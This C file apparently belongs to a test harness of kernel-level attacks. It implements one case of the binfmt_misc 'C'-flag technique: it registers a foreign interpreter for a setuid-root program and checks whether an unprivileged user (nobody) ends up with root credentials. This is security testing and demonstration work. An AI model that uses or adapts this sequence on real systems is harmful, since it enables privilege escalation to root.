// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1. The same with flag C (and so O): the foreign interpreter takes the credentials of an
 * approved program, here those of a setuid one, for somebody without any privilege.
 * Source: Dor Dankner, "Shadow SUID" (2022); binfmt-misc.rst. Control: the foreign program speaks as root.
 */
#define _GNU_SOURCE
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "handler.h"

/* Runs the program as nobody: 0 if somebody foreign spoke as root, else why not. */
static int run_as_nobody(const char *program)
{
	const struct start start = { .path = program, .argv = { "credentials" } };
	int status;
	pid_t pid = fork();

	if (pid < 0)
		broken("fork");
	if (pid == 0) {
		if (setresuid(65534, 65534, 65534))
			_exit(errno);
		_exit(runs(&start, FOREIGN_TEXT " as root") ? 0 : errno ? errno : ECANCELED);
	}
	waitpid(pid, &status, 0);
	return WEXITSTATUS(status);
}

void attack(void)
{
	const char *program = lab_path("open/program.credentials");
	int error;

	drop("foreign/payload-bare", "/tmp/lab-handler-credentials");
	if (chmod(program, 04755))
		no_effect(errno);
	handler_register("credentials", "/tmp/lab-handler-credentials", "C");
	error = run_as_nobody(program);
	handler_remove("credentials");
	if (error == 0)
		effect();
	no_effect(error);
}
